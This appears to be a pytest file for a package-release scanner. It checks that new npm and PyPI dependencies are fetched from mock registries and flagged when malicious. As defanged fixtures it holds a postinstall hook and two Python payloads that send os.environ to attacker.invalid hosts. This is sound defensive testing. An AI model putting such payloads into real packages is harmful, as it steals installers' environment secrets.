"""New dependencies are resolved, fetched and scanned through the real pipeline (`diff_release`).

The registry is an `httpx.MockTransport` serving real packuments and tarballs (see
mock_registries.py); the dependency payload is the defanged credential stealer of the e2e
fixtures (its host is under `.invalid`, nothing is ever run).
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from tests.deps.mock_registries import MockNpm, MockPypi, sdist
from tests.support.packages import STRUTIL_SETUP_JS, NpmRelease
from watcher.deps import scan as deps_scan
from watcher.models import Finding, Report, Severity
from watcher.pipeline import diff_release
from watcher.report.jsonfmt import report_dict, report_from_dict
from watcher.report.markdown import render_markdown
from watcher.report.text import render_text

RELEASED = datetime(2026, 3, 1, 12, tzinfo=UTC)
LONG_AGO = datetime(2019, 5, 1, tzinfo=UTC)
INDEX_JS = "module.exports = (s) => s.trim();\n"


def parent(version: str, dependencies: dict[str, str] | None = None) -> NpmRelease:
    manifest: dict[str, object] = {"name": "parent-pkg", "version": version, "main": "index.js"}
    if dependencies:
        manifest["dependencies"] = dependencies
    return NpmRelease(manifest, {"index.js": INDEX_JS})


def evil(version: str = "1.0.0") -> NpmRelease:
    return NpmRelease(
        {
            "name": "evil-helper",
            "version": version,
            "scripts": {"postinstall": "node setup.js"},
        },
        {"setup.js": STRUTIL_SETUP_JS},
    )


def benign(name: str, version: str) -> NpmRelease:
    return NpmRelease({"name": name, "version": version}, {"index.js": INDEX_JS})


def registry_with(*deps: tuple[NpmRelease, datetime], parent_deps: dict[str, str]) -> MockNpm:
    npm = MockNpm()
    npm.publish(parent("1.0.0"), RELEASED - timedelta(days=90))
    for release, when in deps:
        npm.publish(release, when)
    npm.publish(parent("1.0.1", parent_deps), RELEASED)
    return npm


def via(report: Report) -> list[Finding]:
    return [f for f in report.findings if f.via is not None]


def rules(report: Report) -> set[str]:
    return {f.rule for f in report.findings}


def test_a_fresh_malicious_dependency_makes_the_parent_critical() -> None:
    npm = registry_with(
        (evil(), RELEASED - timedelta(days=2)), parent_deps={"evil-helper": "^1.0.0"}
    )
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert report.severity is Severity.CRITICAL
    from_dep = via(report)
    assert {f.via for f in from_dep} == {"evil-helper@1.0.0"}
    assert {"npm.install-script", "code.network"} <= {f.rule for f in from_dep}
    assert all(f.message.startswith("via dependency evil-helper@1.0.0: ") for f in from_dep)
    setup = next(f for f in from_dep if f.rule == "code.network")
    assert setup.path == "setup.js" and setup.evidence and "https.request" in setup.evidence
    fresh = [f for f in report.findings if f.rule == "manifest.dependency-fresh"]
    assert [f.severity for f in fresh] == [Severity.HIGH], fresh
    assert "manifest.dependency-unscanned" not in rules(report)
    assert report.reasons, "the install hook + network combination should be the reason"


def test_via_survives_json_and_shows_in_text_and_markdown() -> None:
    npm = registry_with(
        (evil(), RELEASED - timedelta(days=2)), parent_deps={"evil-helper": "^1.0.0"}
    )
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    data = report_dict(report)
    vias = {f["via"] for f in data["findings"]}
    assert vias == {None, "evil-helper@1.0.0"}
    assert report_from_dict(data).findings == report.findings
    assert "evil-helper@1.0.0: setup.js" in render_text(report)
    assert "evil-helper@1.0.0: setup.js" in render_markdown(report)
    # A dependency's finding and the parent's own at the same place are told apart.
    mine = via(report)[0]
    assert mine.fingerprint != Finding(**{**_fields(mine), "via": None}).fingerprint


def _fields(finding: Finding) -> dict[str, object]:
    return {name: getattr(finding, name) for name in Finding.__dataclass_fields__}


def test_an_old_benign_dependency_stays_quiet() -> None:
    npm = registry_with((benign("ms-lite", "2.1.3"), LONG_AGO), parent_deps={"ms-lite": "^2.1.0"})
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    assert via(report) == []
    assert rules(report) == {"manifest.dependency-added"}
    assert report.severity is Severity.LOW


def test_the_version_npm_would_install_is_the_one_scanned() -> None:
    """latest (1.0.0) satisfies ^1 so npm installs it, not the malicious 1.1.0 off-tag."""
    npm = MockNpm()
    npm.publish(parent("1.0.0"), RELEASED - timedelta(days=90))
    npm.publish(benign("evil-helper", "1.0.0"), LONG_AGO)
    npm.publish(evil("1.1.0"), RELEASED - timedelta(days=1), tag=False)
    npm.publish(parent("1.0.1", {"evil-helper": "^1.0.0"}), RELEASED)
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    assert via(report) == []
    assert "evil-helper/-/evil-helper-1.1.0.tgz" not in npm.requests

    npm.latest["evil-helper"] = "1.1.0"
    moved = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    assert {f.via for f in via(moved)} == {"evil-helper@1.1.0"}
    assert moved.severity is Severity.CRITICAL


def test_missing_and_unsatisfiable_dependencies_are_low_findings_not_crashes() -> None:
    npm = registry_with(
        (benign("old-dep", "1.0.0"), LONG_AGO),
        parent_deps={"ghost-dep": "^1.0.0", "old-dep": "^7.0.0"},
    )
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    unscanned = [f for f in report.findings if f.rule == "manifest.dependency-unscanned"]
    assert len(unscanned) == 2
    assert all(f.severity is Severity.LOW for f in unscanned)
    messages = " | ".join(f.message for f in unscanned)
    assert "ghost-dep" in messages and "not found" in messages
    assert "old-dep" in messages and "^7.0.0" in messages


def test_tampered_dependency_tarball_is_not_scanned_and_says_so() -> None:
    npm = registry_with(
        (evil(), RELEASED - timedelta(days=2)), parent_deps={"evil-helper": "^1.0.0"}
    )
    npm.tampered.add(("evil-helper", "1.0.0"))
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    assert via(report) == []
    unscanned = [f for f in report.findings if f.rule == "manifest.dependency-unscanned"]
    assert len(unscanned) == 1 and "evil-helper" in unscanned[0].message
    # The freshness facts were read before the download failed.
    assert "manifest.dependency-fresh" in rules(report)


def test_dependency_downloads_are_capped_below_the_parent_cap(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(deps_scan, "MAX_DEPENDENCY_BYTES", 10)
    npm = registry_with(
        (evil(), RELEASED - timedelta(days=2)), parent_deps={"evil-helper": "^1.0.0"}
    )
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    assert via(report) == []
    unscanned = [f for f in report.findings if f.rule == "manifest.dependency-unscanned"]
    assert len(unscanned) == 1 and "limit" in unscanned[0].message, unscanned


def test_the_dependency_cap_is_realistic() -> None:
    """A new major of a real server can add 30 dependencies: all of them are scanned."""
    assert deps_scan.MAX_DEPENDENCIES >= 30


def test_at_most_the_cap_of_dependencies_are_scanned_and_git_specs_are_never_fetched(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(deps_scan, "MAX_DEPENDENCIES", 10)
    deps = [(benign(f"dep-{i:02d}", "1.0.0"), LONG_AGO) for i in range(12)]
    wanted = {f"dep-{i:02d}": "^1.0.0" for i in range(12)}
    wanted["from-git"] = "git+https://git.attacker.invalid/x.git"
    npm = registry_with(*deps, parent_deps=wanted)
    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")
    fetched = {p.split("/-/")[0] for p in npm.requests if "/-/" in p and p.startswith("dep-")}
    assert len(fetched) == deps_scan.MAX_DEPENDENCIES
    unscanned = [f for f in report.findings if f.rule == "manifest.dependency-unscanned"]
    assert len(unscanned) == 2 and all("first 10" in f.message for f in unscanned)
    # Unscanned code that runs in the package's process is not clean: fail closed.
    [cap] = [f for f in report.findings if f.rule == "analysis.incomplete"]
    assert cap.severity is Severity.HIGH
    assert "2 new or changed dependencies over the 10" in cap.message
    assert not any("attacker" in p or "from-git" in p for p in npm.requests)
    assert "manifest.dependency-url" in rules(report)


# --------------------------------------------------------------------------- PyPI


def test_pypi_new_requirement_is_scanned_and_yanked_releases_are_skipped() -> None:
    pypi = MockPypi()
    old = sdist("parent-py", "1.0.0", {"parent_py/__init__.py": "X = 1\n"})
    new = sdist(
        "parent-py", "1.0.1", {"parent_py/__init__.py": "X = 1\n"}, requires=("helper-py>=1.0",)
    )
    pypi.upload("parent-py", "1.0.0", old, RELEASED - timedelta(days=60))
    pypi.upload("parent-py", "1.0.1", new, RELEASED)
    payload = (
        "import os, urllib.request\n"
        "body = repr(dict(os.environ)).encode()\n"
        "urllib.request.urlopen('https://c.attacker.invalid/', data=body)\n"
    )
    pypi.upload(
        "helper-py",
        "1.0.0",
        sdist("helper-py", "1.0.0", {"helper_py/__init__.py": "Y = 2\n"}),
        LONG_AGO,
    )
    pypi.upload(
        "helper-py",
        "1.1.0",
        sdist("helper-py", "1.1.0", {"helper_py/__init__.py": payload}),
        RELEASED - timedelta(days=3),
    )
    pypi.upload(
        "helper-py",
        "1.2.0",
        sdist("helper-py", "1.2.0", {"helper_py/__init__.py": "Y = 3\n"}),
        RELEASED - timedelta(days=1),
        yanked=True,
    )
    report = diff_release(pypi.sources(), "parent-py", "1.0.0", "1.0.1")
    from_dep = via(report)
    assert {f.via for f in from_dep} == {"helper-py@1.1.0"}
    assert "code.network" in {f.rule for f in from_dep}
    fresh = [f for f in report.findings if f.rule == "manifest.dependency-fresh"]
    # The project is years old; the version it resolves to is three days old.
    assert [f.severity for f in fresh] == [Severity.MEDIUM]
    assert report.severity >= Severity.HIGH


def test_pypi_new_build_requirement_is_an_install_time_dependency() -> None:
    """pip installs `[build-system] requires` and runs it to build the sdist: a requirement
    added there is scanned like any new dependency."""
    pypi = MockPypi()
    pyproject = "[build-system]\nrequires = ['setuptools>=61'{extra}]\n"
    files = {"parent_py/__init__.py": "X = 1\n"}
    old = sdist("parent-py", "1.0.0", {**files, "pyproject.toml": pyproject.format(extra="")})
    new = sdist(
        "parent-py",
        "1.0.1",
        {**files, "pyproject.toml": pyproject.format(extra=", 'build-helper-py>=1'")},
    )
    pypi.upload("parent-py", "1.0.0", old, RELEASED - timedelta(days=60))
    pypi.upload("parent-py", "1.0.1", new, RELEASED)
    payload = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('https://b.attacker.invalid/', data=repr(os.environ).encode())\n"
    )
    helper = sdist("build-helper-py", "1.0.0", {"build_helper_py/__init__.py": payload})
    pypi.upload("build-helper-py", "1.0.0", helper, RELEASED - timedelta(days=2))
    report = diff_release(pypi.sources(), "parent-py", "1.0.0", "1.0.1")
    assert {f.via for f in via(report)} == {"build-helper-py@1.0.0"}
    assert report.severity >= Severity.HIGH
